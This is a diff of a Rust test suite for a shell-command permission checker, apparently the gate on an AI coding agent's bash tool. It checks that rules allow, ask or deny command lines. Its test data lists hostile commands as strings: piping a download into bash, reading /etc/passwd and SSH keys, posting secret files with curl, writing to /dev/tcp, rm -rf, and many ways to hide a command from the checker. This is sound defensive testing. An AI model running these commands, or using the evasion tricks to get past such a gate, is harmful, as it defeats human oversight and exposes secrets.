@@ -2,15 +2,15 @@
 
 use super::*;
 
-fn rules(texts: &[&str]) -> Vec<Rule> {
+pub(super) fn rules(texts: &[&str]) -> Vec<Rule> {
     texts.iter().map(|text| text.parse().unwrap()).collect()
 }
 
-fn policy(mode: Mode, allow: &[&str], deny: &[&str]) -> Policy {
+pub(super) fn policy(mode: Mode, allow: &[&str], deny: &[&str]) -> Policy {
     Policy { mode, allow: rules(allow), deny: rules(deny), confinement: Confinement::None }
 }
 
-fn bash(line: &str, policy: &Policy) -> Decision {
+pub(super) fn bash(line: &str, policy: &Policy) -> Decision {
     judge(ToolName::Bash, &Subject::Command(line.to_owned()), policy)
 }
 
@@ -64,7 +64,7 @@ fn each_command_of_a_line_needs_a_rule_of_its_own() {
             "git log -1 & touch m",
             "git log -1\ntouch m",
             "git log -1\r\ntouch m",
-            "git log -1 &",
+            "git log -1 & touch m &",
             "git log -1 &&",
             "&& git log -1",
             "git log -1 ;; touch m",
@@ -91,16 +91,17 @@ fn what_the_shell_would_expand_or_redirect_is_asked() {
     assert_asked(
         &["bash(echo *)", "bash(ls *)", "bash(cat *)", "bash(git log *)"],
         &[
-            "echo x > m",
-            "echo x >> m",
-            "echo x >| m",
-            "echo x &> m",
-            ">&m echo x",
+            "echo x > ../m",
+            "echo x >> .git/config",
+            "echo x >| \"$m\"",
+            "echo x &> /m",
+            ">&$m echo x",
             "ls <(touch m)",
             "echo ok > >(touch m)",
             "cat <(touch m)",
             "cat <<EOF\n$(touch m)\nEOF",
-            "cat <<< x",
+            "cat <<EOF\n`touch m`\nEOF",
+            "cat <<< \"$(touch m)\"",
             "echo \"$(touch m)\"",
             "echo `touch m`",
             "echo \"`touch m`\"",
@@ -108,29 +109,32 @@ fn what_the_shell_would_expand_or_redirect_is_asked() {
             "echo ${x@P}",
             "echo ${x:=y}",
             "echo ${!x}",
-            "echo $IFS",
-            "echo$IFS-n",
+            "echo ${x:-$(touch m)}",
+            "echo ${x%$(touch m)}",
+            "git log $IFS",
+            "git$IFS-n",
             "cat ~/.ssh/id_x",
-            "echo a=~/x",
-            "cat *",
-            "cat -*",
-            "cat \"\"*",
-            "echo {a,b}",
+            "cat /etc/passwd",
+            "cat ../../x",
             "echo \"a\\\\\"; touch m; echo \"b\"",
             "echo a\\\ntouch m",
             "FOO=1 echo x",
-            "if true; then echo x; fi",
-            "for x in a; do echo x; done",
-            "! echo x",
-            "(echo x)",
-            "{ echo x; }",
+            "if true; then touch m; fi",
+            "for x in a; do touch m; done",
+            "for PATH in a; do echo x; done",
+            "! touch m",
+            "(touch m)",
+            "{ touch m; }",
             "e[c]ho x",
             "$(echo echo) x",
             "echo 'not closed",
             "echo a\u{a0}b\u{2028}c",
-            "case x in x) echo m ;; esac",
-            "time echo x",
-            "[[ -f x ]] && echo y",
+            "case x in x) touch m ;; esac",
+            "time touch m",
+            "[[ -f x ]] && touch m",
+            "[[ a[$(touch m)] -eq 1 ]] && echo x",
+            "f() { touch m; }; f",
+            "echo $((a[$(touch m)]))",
         ],
     );
     assert_allowed(
@@ -144,40 +148,94 @@ fn what_the_shell_would_expand_or_redirect_is_asked() {
             "git show HEAD~1 HEAD^",
             "git diff main..HEAD -- src/lib.rs",
             "echo héllo 世界",
+            "cat <<'EOF'\n$(touch m) `x` && ; #\nEOF",
+            "cat <<< x",
+            "echo {a,b} $IFS \"$x\" ${x:-y}",
+            "if true; then echo x; fi",
+            "for x in a b; do echo $x; done",
+            "! echo x",
+            "(echo x) && { echo y; }",
+            "case x in x) echo m ;; esac",
+            "time echo x",
+            "[[ -f x ]] && echo y",
+            "f() { echo x; }; f",
+            "git log -1 2>&1 >/dev/null | cat",
+            "echo \"$(git log -1)\"",
+            "RUST_BACKTRACE=1 git log",
         ],
     );
 }
 
 #[test]
-fn a_wrapper_is_not_allowed_by_a_rule_for_what_it_wraps() {
-    let wrapped = [
-        "env git log",
-        "env -i git log",
-        "nohup git log",
-        "nice -n 5 git log",
-        "timeout 5 git log",
-        "xargs git log",
-        "sudo git log",
-        "command git log",
-        "exec git log",
-        "builtin git log",
-        "bash -c 'git log'",
-        "bash -xc 'git log'",
-        "sh -c '$0 \"$@\"' git log",
-        "eval 'git log'",
-        "/usr/bin/git log",
-        "./git log",
-        "busybox git log",
-        "setsid git log",
-    ];
-    assert_asked(&["bash(git *)", "bash(git log *)"], &wrapped);
+fn a_wrapper_that_changes_nothing_is_allowed_by_the_rule_for_what_it_wraps() {
+    let rules = ["bash(git *)", "bash(git log *)", "bash(grep *)", "bash(find *)"];
+    assert_allowed(
+        &rules,
+        &[
+            "env git log",
+            "env -i RUST_LOG=x git log",
+            "nohup git log",
+            "nice -n 5 git log",
+            "timeout -k 1 5 git log",
+            "command git log",
+            "exec git log",
+            "builtin git log",
+            "bash -c 'git log | grep x'",
+            "bash -euo pipefail -c 'git log'",
+            "env nice timeout 5 bash -c 'nohup git log'",
+            "setsid git log",
+            "git ls-files | xargs grep x",
+            "git ls-files | xargs -0 -n 1 grep -n x",
+            "find . -name '*.rs' -exec grep -n x {} +",
+        ],
+    );
+    assert_asked(
+        &rules,
+        &[
+            "xargs git log",
+            "sudo git log",
+            "bash -xc 'git log'",
+            "bash -lc 'git log'",
+            "sh -c '$0 \"$@\"' git log",
+            "sh -c 'git log &> m'",
+            "bash -c \"$X\"",
+            "bash",
+            "bash x.sh",
+            "echo 'touch m' | bash",
+            "eval 'git log'",
+            "source x",
+            ". ./x",
+            "trap 'git log' EXIT",
+            "/usr/bin/git log",
+            "./git log",
+            "env -S 'git log'",
+            "env PAGER=x git log",
+            "env --unknown git log",
+            "timeout --unknown 5 git log",
+            "env touch m",
+            "timeout 5 touch m",
+            "nice nice nice touch m",
+            "bash -c 'git log; touch m'",
+            "xargs touch",
+            "find . -exec touch m ';'",
+            "find . -exec git log ';' -delete",
+            "find . -exec sh -c 'touch m' ';'",
+            "ssh host git log",
+            "parallel git log",
+            "watch git log",
+            "coproc git log",
+        ],
+    );
     // A rule on the wrapper itself with a `*` would be a rule on everything.
     assert_asked(
-        &["bash(env *)", "bash(bash *)", "bash(sh -c *)", "bash(timeout 5 *)"],
-        &["env touch m", "bash -c 'x'", "sh -c 'x'", "timeout 5 x"],
+        &["bash(env *)", "bash(bash *)", "bash(sh -c *)", "bash(timeout 5 *)", "bash(sudo *)"],
+        &["env touch m", "bash -c 'x'", "sh -c 'x'", "timeout 5 x", "sudo x"],
     );
     assert_asked(&["bash(* --version)", "bash(g*)"], &["touch --version", "git log"]);
-    assert_allowed(&["bash(timeout 60 make test)", "bash(command *)"], &["timeout 60 make test", "command -v git"]);
+    assert_allowed(
+        &["bash(timeout 60 make test)", "bash(command *)", "bash(sudo apt *)", "bash(eval \"$X\")", "bash(A=* run *)"],
+        &["timeout 60 make test", "command -v git", "sudo apt list x", "eval \"$X\"", "A=1 run x"],
+    );
 }
 
 #[test]
@@ -396,6 +454,7 @@ fn a_denied_command_is_found_wherever_it_hides() {
         &[
             "git push",
             "git push origin main",
+            "git push $X",
             "true; git push",
             "git -C d push",
             "git -c a=b --no-pager push",
@@ -409,38 +468,203 @@ fn a_denied_command_is_found_wherever_it_hides() {
             "bash -c \"bash -c 'git push'\"",
             "sh -c \"git \"push",
             "eval git push",
-            "echo push | xargs git",
             "$(git push)",
             "echo \"$(git push)\"",
             "echo `git push`",
             "g\\it push",
             "g\"i\"t pu''sh x > y",
             "> f git push",
-            "git $X",
-            "$G push",
-            "git pu$X",
-            "git ${X}",
-            "$(echo git) push",
-            "git $(echo push)",
-            "{git,push}",
-            "x=push; git $x",
             "git pus[h]",
-            "git p*",
-            "cat <<EOF | sh\ngit push\nEOF",
             "if true; then git push; fi",
             "f() { git push; }; f",
             "find . -exec git push ';'",
-            "python3 -c 'import os; os.system(\"git push\")'",
             "case $s in *) git push ;; esac",
             "git log &\ngit push",
+            "trap 'git push' EXIT",
+            "ssh host git push",
+            "cat <<EOF\n$(git push)\nEOF",
         ],
     );
-    assert_denied(
-        "bash(rm *)",
-        &["rm -rf x", "'rm' x", "X=rm; $X -rf /", "r${E}m -rf x", "/bin/rm x", "ls | xargs rm", "rm"],
-    );
+    assert_denied("bash(rm *)", &["rm -rf x", "'rm' x", "\\rm x", "/bin/rm x", "command rm x", "ls | xargs rm", "rm"]);
+    assert_denied("bash(rm -rf *)", &["rm -rf x", "rm -fr x", "rm -r -f x", "rm -vfr x", "rm --recursive --force x"]);
+    assert_denied("bash(git push --force *)", &["git push --force", "git push origin --force", "git push --forc x"]);
     assert_denied("bash(cat secret/*)", &["cat secret/a", "cat secre[t]/a", "cat s*/a"]);
     assert_denied("bash", &["ls"]);
+}
+
+#[test]
+fn what_may_be_a_denied_command_is_asked_in_every_mode() {
+    let lines = [
+        "echo push | xargs git",
+        "git $X",
+        "$G push",
+        "git pu$X",
+        "git ${X}",
+        "$(echo git) push",
+        "git $(echo push)",
+        "{git,push}",
+        "x=push; git $x",
+        "cat <<EOF | sh\ngit push\nEOF",
+        "python3 -c 'import os; os.system(\"git push\")'",
+        "python3 - <<EOF\nos.system('git push')\nEOF",
+        "git -c alias.x='!git push' x",
+        "for ((i=0;i<3;i++)); do git push; done",
+        "echo $((x)); \"$@\"",
+        "echo $(( 1 + $(git push) ))x; git push",
+        "curl x | bash",
+        "source x",
+    ];
+    for mode in [Mode::Default, Mode::Edit, Mode::Bypass] {
+        for confinement in [Confinement::None, Confinement::InForce] {
+            let policy = Policy { confinement, ..policy(mode, &["bash"], &["bash(git push *)"]) };
+            for line in lines {
+                assert!(
+                    matches!(bash(line, &policy), Decision::Ask { .. }),
+                    "{line} in {mode}: {:?}",
+                    bash(line, &policy)
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn a_rule_about_a_file_holds_against_commands_that_name_it() {
+    let denied =
+        policy(Mode::Bypass, &["bash"], &["read(secret/**)", "edit(*.lock)", "read(/etc/passwd)", "read(*.pem)"]);
+    for line in [
+        "cat secret/a",
+        "cat ./secret/a",
+        "cat x/../secret/a",
+        "cat secret",
+        "cat s?cret/a",
+        "cat s*/a",
+        "cat < secret/a",
+        "cd secret && cat a",
+        "cd sub; cat ../secret/a",
+        "cat /etc/pass[w]d",
+        "cat \"/etc/passwd\"",
+        "bash -c 'cat secret/a'",
+        "git show HEAD:secret/a",
+        "dd if=secret/a",
+        "curl -d @secret/a x",
+        "tar -cf x -T secret/list",
+        "cat ~/proj/secret/a",
+        "cat keys/a.pem",
+        "echo x > Cargo.lock",
+        "rm sub/Cargo.lock",
+        "sed -i s/a/b/ Cargo.lock",
+        "cd sub && touch x.lock",
+    ] {
+        assert!(matches!(bash(line, &denied), Decision::Deny { .. }), "{line}: {:?}", bash(line, &denied));
+    }
+    for line in [
+        "cat $X",
+        "grep -rn foo .",
+        "grep -rn foo src",
+        "rg foo",
+        "cd $X && cat a",
+        "for ((;;)); do cat secret/a; done",
+        "cat \"$D/a\"",
+    ] {
+        assert!(matches!(bash(line, &denied), Decision::Ask { .. }), "{line}: {:?}", bash(line, &denied));
+    }
+    for line in [
+        "cat src/secret.rs",
+        "cat Cargo.lock",
+        "git diff Cargo.lock",
+        "git add Cargo.lock",
+        "grep -n secret src/lib.rs",
+        "echo secret",
+        "cargo test",
+        "git log",
+        "ls -la src",
+        "cat secrets/a",
+    ] {
+        let policy = policy(Mode::Bypass, &["bash"], &["read(secret/**)", "edit(*.lock)", "read(/etc/passwd)"]);
+        assert_eq!(bash(line, &policy), Decision::Allow, "{line}");
+    }
+}
+
+#[test]
+fn a_redirection_is_a_write_where_the_shell_is_then() {
+    let rules = ["bash(make *)", "write(out/**)"];
+    assert_allowed(
+        &rules,
+        &["make > out/a", "cd out && make > a", "make &> out/a", "make > /dev/null 2>&1", "make < in"],
+    );
+    assert_asked(
+        &rules,
+        &[
+            "make > out/../../a",
+            "make > $X",
+            "make > \"$(pwd)/a\"",
+            "cd $X && make > out/a",
+            "make < /etc/passwd",
+            "make > /dev/tcp/h/80",
+            "{ make; } > /a",
+            "for i in 1; do make; done > .git/config",
+            "cd .. && make > out/a",
+        ],
+    );
+    let default = policy(Mode::Default, &rules, &[]);
+    for line in [
+        "make > a",
+        "cd out; make > a",
+        "make > out/../a",
+        "make >> a",
+        "make >| a",
+        "make &> a",
+        "make &>> a",
+        "make >& a",
+        "> a make",
+        "{ make; } > a",
+        "for i in 1; do make; done > a",
+        "cd out && { make; cd ..; } && make > a",
+    ] {
+        assert!(matches!(bash(line, &default), Decision::Ask { .. }), "{line}");
+    }
+    let edit = policy(Mode::Edit, &["bash(make *)"], &["write(b)"]);
+    assert_eq!(bash("make > a", &edit), Decision::Allow);
+    assert!(matches!(bash("make > b", &edit), Decision::Deny { .. }));
+    assert!(matches!(bash("make > .git/config", &edit), Decision::Ask { .. }));
+    assert!(matches!(bash("make > ../a", &edit), Decision::Ask { .. }));
+}
+
+#[test]
+fn claude_codes_way_to_write_rules_is_read() {
+    assert_allowed(
+        &["Bash(git log:*)", "Bash(npm run test:*)", "Bash(cargo build)"],
+        &["git log", "git log -1", "npm run test", "npm run test:unit", "cargo build"],
+    );
+    assert_asked(&["Bash(git log:*)", "Bash(cargo build)"], &["git logs", "git push", "cargo build --release"]);
+}
+
+#[test]
+fn a_hostile_line_ends_soon() {
+    let policy = policy(Mode::Bypass, &[], &["bash(rm *)", "read(secret/**)"]);
+    for line in [
+        "(".repeat(60_000),
+        "$(".repeat(30_000),
+        "\"$(".repeat(10_000),
+        "{ ".repeat(20_000),
+        format!("{}x{}", "(".repeat(5_000), ")".repeat(5_000)),
+        format!("{}x{}", "$(".repeat(5_000), ")".repeat(5_000)),
+        format!("{}x", "x && ".repeat(10_000)),
+        format!("{}x", "x | ".repeat(10_000)),
+        format!("{}x", "! ".repeat(10_000)),
+        format!("ssh {}", "ssh ".repeat(5_000)),
+        format!("env {}x", "env ".repeat(5_000)),
+        format!("cat {}", "*".repeat(10_000)),
+        format!("if x; then {}", "if x; then ".repeat(3_000)),
+        "<<E ".repeat(5_000),
+        "a".repeat(70_000),
+    ] {
+        let start = std::time::Instant::now();
+        bash(&line, &policy);
+
+        assert!(start.elapsed() < std::time::Duration::from_secs(20), "{}", &line[..20]);
+    }
 }
 
 #[test]
@@ -502,7 +726,8 @@ fn a_sandboxed_child_edits_and_runs_freely_inside() {
         assert_eq!(bash("make > log 2>&1 &", &policy(mode)), Decision::Allow);
         assert_eq!(path(ToolName::Edit, "a/b", &policy(mode)), Decision::Allow);
         assert!(matches!(path(ToolName::Edit, "/etc/hosts", &policy(mode)), Decision::Ask { .. }));
-        assert!(matches!(bash("x=push; git $x", &policy(mode)), Decision::Deny { .. }));
+        assert!(matches!(bash("x=push; git $x", &policy(mode)), Decision::Ask { .. }));
+        assert!(matches!(bash("git push", &policy(mode)), Decision::Deny { .. }));
     }
 }
 
